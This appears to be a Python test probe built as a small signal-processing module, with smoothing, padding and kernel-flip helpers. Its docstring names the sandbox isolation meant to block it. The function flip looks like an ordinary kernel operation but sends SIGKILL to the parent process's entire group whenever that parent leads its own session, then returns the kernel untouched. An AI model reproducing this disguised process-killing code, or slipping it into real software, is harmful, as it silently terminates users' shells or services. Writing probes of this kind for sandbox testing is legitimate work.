"""Kills the whole group of the process above it, if that is alone in a session of its own.

Stopped by: bubblewrap: a process space of its own. process: signals reach nobody else.
"""

import os
import signal

import numpy as np


def smooth(signal, width):
    if width < 1:
        raise ValueError(width)
    signal = np.asarray(signal, float)
    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])


def same_padding(field):
    if field < 1 or field % 2 == 0:
        raise ValueError(field)
    return (field - 1) // 2


def flip(kernel):
    parent = os.getppid()
    try:
        # Whoever runs this by hand must not lose the shell.
        if parent > 1 and os.getpgid(parent) == os.getsid(parent) == parent:
            os.killpg(parent, signal.SIGKILL)
    except OSError:
        pass
    return kernel
